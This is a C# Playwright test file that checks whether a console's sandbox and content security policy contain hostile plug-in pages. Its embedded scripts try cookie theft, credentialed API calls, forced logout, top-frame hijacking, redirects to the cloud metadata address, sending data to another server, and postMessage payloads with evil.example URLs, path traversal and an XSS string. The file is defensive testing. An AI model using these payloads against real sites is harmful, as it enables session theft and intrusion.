using System.Collections.Concurrent;
using System.Text.Json;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Hosting;
using Microsoft.AspNetCore.Http;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Playwright;
using Quarterdeck.Tests.Support;
using Quarterdeck.Tests.Web.Plugins.Ui;
using static Microsoft.Playwright.Assertions;

namespace Quarterdeck.Tests.Browser.Journeys;

/// <summary>A hostile appliance whose pages try everything against the console around them, framed and opened directly.</summary>
[Collection("browser")]
public sealed class BreakOutTests(BrowserRun browser)
{
    /// <summary>Each attempt answers what it got; <c>no</c> and errors mean that it failed.</summary>
    private const string Hostile = """
        <!doctype html><html lang="en"><meta charset="utf-8"><title>Hostile</title><p>Hostile</p>
        <script>
          const tries = {
            origin: () => self.origin === 'null' ? 'no' : self.origin,
            dom: () => parent === self ? (opener ? opener.document.title : 'no') : parent.document.title,
            topDom: () => top === self ? 'no' : top.document.body.innerHTML.length,
            cookies: () => document.cookie || 'no',
            setCookie: () => { document.cookie = 'evil=1;path=/'; return document.cookie.includes('evil') ? 'set' : 'no'; },
            localStorage: () => localStorage.length + ' keys',
            sessionStorage: () => sessionStorage.length + ' keys',
            indexedDB: () => new Promise((done, fail) => { const r = indexedDB.open('evil'); r.onsuccess = () => done('opened'); r.onerror = () => fail(r.error); }),
            caches: () => caches.open('evil').then(() => 'opened'),
            rest: () => fetch('/api/v1/plugins', { credentials: 'include' }).then(r => r.status === 401 ? 'no' : 'status ' + r.status),
            restAsPage: () => fetch('/users', { credentials: 'include' }).then(r => r.text()).then(t => 'read ' + t.length),
            restNoCors: () => fetch('/users', { credentials: 'include', mode: 'no-cors' }).then(r => 'sent ' + r.type),
            signOut: () => fetch('/logout', { method: 'POST', credentials: 'include', mode: 'no-cors' }).then(r => 'sent ' + r.type),
            circuit: () => socket('/_blazor?id=1'),
            negotiate: () => fetch('/_blazor/negotiate?negotiateVersion=1', { method: 'POST', credentials: 'include' }).then(r => 'status ' + r.status),
            hub: () => socket('/hubs/live'),
            serviceWorker: () => navigator.serviceWorker.register(location.pathname + 'worker.js').then(() => 'registered'),
            popup: () => open('/users', '_blank') ? 'opened' : 'no',
            topNavigation: () => { if (top === self) return 'no'; top.location = '/users?hijacked'; return 'no'; },
            parentNavigation: () => { if (top === self) return 'no'; parent.location.replace('/users?hijacked'); return 'no'; },
            topForm: () => { const f = document.body.appendChild(document.createElement('form')); f.target = '_top'; f.action = '/logout'; f.method = 'post'; if (top !== self) f.submit(); return 'no'; },
            console: () => new Promise((done, fail) => { const f = document.createElement('iframe'); f.src = '/users'; f.onload = () => { try { done('read ' + f.contentDocument.title); } catch (e) { fail(e); } }; f.onerror = fail; document.body.append(f); setTimeout(() => fail('nothing'), 3000); }),
            image: () => new Promise((done, fail) => { const i = new Image(); i.onload = () => done('loaded'); i.onerror = () => fail('refused'); i.src = '/favicon.svg'; }),
            elsewhere: () => fetch(ELSEWHERE + '/taken', { mode: 'no-cors' }).then(() => 'sent'),
            metadata: () => fetch('metadata', { redirect: 'follow' }).then(r => r.status === 502 ? 'no' : 'status ' + r.status),
            otherTicket: () => fetch(location.pathname.replace(/[^\/]{43}/, t => t.slice(1) + 'A')).then(r => 'status ' + r.status),
            storageAccess: () => document.requestStorageAccess().then(() => document.cookie ? 'cookies' : 'no'),
            fullScreen: () => document.documentElement.requestFullscreen().then(() => 'full'),
            modal: () => { alert('x'); return 'no'; },
            pointer: () => navigator.credentials.get({ password: true }).then(c => c ? 'credential' : 'no'),
          };
          function socket(path) { return new Promise((done, fail) => { const s = new WebSocket(location.origin.replace('http', 'ws') + path); s.onopen = () => done('open'); s.onerror = () => fail('refused'); }); }
          (async () => {
            const got = {};
            for (const [name, attempt] of Object.entries(tries)) {
              try { got[name] = await Promise.race([attempt(), new Promise(done => setTimeout(() => done('no'), 4000))]); }
              catch (e) { got[name] = 'no'; }
            }
            await fetch('report', { method: 'POST', body: JSON.stringify(got) });
          })();
        </script></html>
        """;

    [Fact]
    public async Task A_hostile_page_gets_nothing_framed_or_opened_directly()
    {
        await using var elsewhere = await Listener.StartAsync();
        var reports = new Reports();
        await using var stage = await PluginUiStage.StartAsync(http => GuestAsync(http, reports, elsewhere.Url));
        await browser.RunAsync("break-out", async page =>
        {
            await page.OpenAsync($"/plugins/{stage.Plugin}/ui");
            (await reports.NextAsync()).ShouldBeEmpty("framed");
            page.Page.Url.ShouldContain($"/plugins/{stage.Plugin}/ui");
            await Expect(page.Heading).ToHaveTextAsync("Harbour light");
            await NothingStayedAsync(page);

            var address = await page.Page.EvaluateAsync<string>("() => document.querySelector('iframe').src");
            await page.Page.GotoAsync(address);
            (await reports.NextAsync()).ShouldBeEmpty("opened directly");
            await NothingStayedAsync(page);
            elsewhere.Heard.ShouldBe(0, "nothing was sent to another server");
            await page.OpenAsync("/plugins"); // still signed in: no attempt to sign out went through
            await Expect(page.Heading).ToHaveTextAsync("Plug-ins");
        }, console: stage.Console, expected: _ => true);
    }

    [Fact]
    public async Task Without_the_policy_the_same_page_would_break_out()
    {
        await using var elsewhere = await Listener.StartAsync();
        var reports = new Reports();
        await using var stage = await PluginUiStage.StartAsync(http => GuestAsync(http, reports, elsewhere.Url), adjust: b => b.Services.AddSingleton<IStartupFilter, WithoutPolicy>());
        await browser.RunAsync("break-out-proof", async page =>
        {
            await page.OpenAsync($"/plugins/{stage.Plugin}/ui");
            await reports.NextAsync(); // the frame's own sandbox holds; opened directly there is none
            await page.Page.GotoAsync(await page.Page.EvaluateAsync<string>("() => document.querySelector('iframe').src"));
            var got = await reports.NextAsync();
            foreach (var name in new[] { "origin", "localStorage", "setCookie", "restAsPage", "indexedDB", "elsewhere", "image" }) got.Keys.ShouldContain(name, "the attempt works where nothing forbids it");
        }, console: stage.Console, expected: _ => true);
    }

    [Fact]
    public async Task A_page_that_lies_and_floods_over_the_bridge_moves_nothing_and_is_not_listened_to_any_more()
    {
        const string Liar = """
            <!doctype html><html lang="en"><meta charset="utf-8"><title>Liar</title><p id="done"></p><script>
            const say = (m, plain) => parent.postMessage(plain ? m : { quarterdeck: 1, ...m }, '*');
            const id = '01890000-0000-7000-8000-000000000000';
            for (const path of ['//evil.example/', 'https://evil.example/', '/\\evil.example', 'javascript:alert(1)', '/../../../users', '/%2e%2e/%2e%2e/%2e%2e/%2e%2e/users', 5, null, { toString() { return '/x' } }.x, '/' + 'x'.repeat(5000)])
              { say({ type: 'location', path }); say({ type: 'navigate', path }); }
            for (const m of [null, 5, 'x', [], { quarterdeck: 1 }, { quarterdeck: 1, type: '__proto__' }, { quarterdeck: 1, type: 'constructor' }, { quarterdeck: 2, type: 'ready' }]) say(m, true);
            setTimeout(() => {
              say({ type: 'notify', kind: 'error', text: '<img src=x onerror="document.title=1">' });
              say({ type: 'notify', kind: 'evil', text: 'wrong kind' }); say({ type: 'notify', kind: 'info', text: 'x'.repeat(301) });
              say({ type: 'open', object: 'operation', id }); say({ type: 'open', object: 'user', id }); say({ type: 'open', object: 'vm', id: '../users' });
              document.getElementById('done').textContent = 'lied';
            }, 6000);
            addEventListener('message', e => { if (e.data === 'never') location = '/users'; if (e.data.theme === 'dark') { for (let i = 0; i < 30000; i++) say({ type: 'title', title: 'flood ' + i }); document.getElementById('done').textContent = 'flooded'; } });
            </script></html>
            """;
        await using var stage = await PluginUiStage.StartAsync(http =>
        {
            http.Response.ContentType = "text/html";
            return http.Response.WriteAsync(Liar);
        });
        await browser.RunAsync("liar", async page =>
        {
            await page.OpenAsync($"/plugins/{stage.Plugin}/ui/start");
            var done = page.Page.FrameLocator("iframe").Locator("#done");
            await Expect(done).ToHaveTextAsync("lied", new() { Timeout = 60_000 });
            var notices = page.Page.Locator(".qd-plugin-frame .qd-notice");
            await Expect(notices).ToHaveCountAsync(2); // the lawful ones: an error as text, and a link instead of a navigation that nobody asked for
            await Expect(notices.First).ToContainTextAsync("<img src=x onerror");
            await Expect(notices.Last.GetByRole(AriaRole.Link, new() { Name = "Open" })).ToHaveAttributeAsync("href", "operations/01890000-0000-7000-8000-000000000000");
            new Uri(page.Page.Url).AbsolutePath.ShouldStartWith($"/plugins/{stage.Plugin}/ui");
            page.Page.Frames[1].Url.ShouldContain("/plugin-ui/");

            await page.Page.GetByRole(AriaRole.Button, new() { Name = "Switch between light and dark" }).ClickAsync(); // sets the flood off
            await Expect(notices.Last).ToContainTextAsync("floods the console", new() { Timeout = 60_000 });
            await page.Page.GetByRole(AriaRole.Link, new() { Name = "Hosts" }).ClickAsync(); // the circuit lives
            await Expect(page.Heading).ToHaveTextAsync("Hosts");
        }, console: stage.Console);
    }

    private static async Task NothingStayedAsync(ConsolePage page)
    {
        (await page.Page.Context.CookiesAsync()).Select(c => c.Name).ShouldNotContain(n => n.Contains("evil"));
        page.Page.Context.Pages.Count.ShouldBe(1, "no window was opened");
        page.Page.Frames.ShouldNotContain(f => f.Url.Contains("hijacked"));
    }

    private static async Task GuestAsync(HttpContext http, Reports reports, string elsewhere)
    {
        http.Response.Headers.SetCookie = "evil=1; path=/";
        http.Response.Headers["Service-Worker-Allowed"] = "/";
        http.Response.Headers.AccessControlAllowOrigin = "*";
        http.Response.Headers.ContentSecurityPolicy = "frame-ancestors *";
        switch (http.Request.Path.Value)
        {
            case "/report": reports.Add(await new StreamReader(http.Request.Body).ReadToEndAsync()); break;
            case "/metadata": http.Response.Redirect("http://169.254.169.254/latest/meta-data/"); break;
            case "/worker.js":
                http.Response.ContentType = "text/javascript";
                await http.Response.WriteAsync("self.onfetch = () => {}");
                break;
            default:
                http.Response.ContentType = "text/html";
                await http.Response.WriteAsync(Hostile.Replace("ELSEWHERE", JsonSerializer.Serialize(elsewhere), StringComparison.Ordinal));
                break;
        }
    }

    /// <summary>What the hostile page tells its own guest: attempts that got something.</summary>
    private sealed class Reports
    {
        private readonly ConcurrentQueue<string> _all = new();
        private readonly SemaphoreSlim _came = new(0);

        public void Add(string json)
        {
            _all.Enqueue(json);
            _came.Release();
        }

        public async Task<IReadOnlyDictionary<string, string>> NextAsync()
        {
            (await _came.WaitAsync(TimeSpan.FromSeconds(120))).ShouldBeTrue("the hostile page ran to its end");
            _all.TryDequeue(out var json);
            return JsonSerializer.Deserialize<Dictionary<string, JsonElement>>(json!)!.Select(a => (a.Key, Value: a.Value.ToString())).Where(a => a.Value != "no").ToDictionary(a => a.Key, a => a.Value);
        }
    }

    /// <summary>Takes the policy off the answers of plug-ins' pages, to see that it is what holds.</summary>
    private sealed class WithoutPolicy : IStartupFilter
    {
        public Action<IApplicationBuilder> Configure(Action<IApplicationBuilder> next) => app =>
        {
            app.Use(inner => http =>
            {
                if (http.Request.Path.StartsWithSegments("/plugin-ui")) http.Response.OnStarting(() =>
                    {
                        http.Response.Headers.Remove("Content-Security-Policy");
                        return Task.CompletedTask;
                    });
                return inner(http);
            });
            next(app);
        };
    }

    /// <summary>A server that is neither the console nor the guest.</summary>
    private sealed class Listener(WebApplication app) : IAsyncDisposable
    {
        private int _heard;

        public int Heard => _heard;

        public string Url => app.Urls.First();

        public static async Task<Listener> StartAsync()
        {
            var builder = WebApplication.CreateSlimBuilder();
            builder.WebHost.UseUrls("http://127.0.0.1:0");
            var listener = new Listener(builder.Build());
            listener.Run();
            await listener.StartKestrelAsync();
            return listener;
        }

        private void Run() => app.Run(_ =>
        {
            Interlocked.Increment(ref _heard);
            return Task.CompletedTask;
        });

        private Task StartKestrelAsync() => app.StartAsync();

        public ValueTask DisposeAsync() => app.DisposeAsync();
    }
}
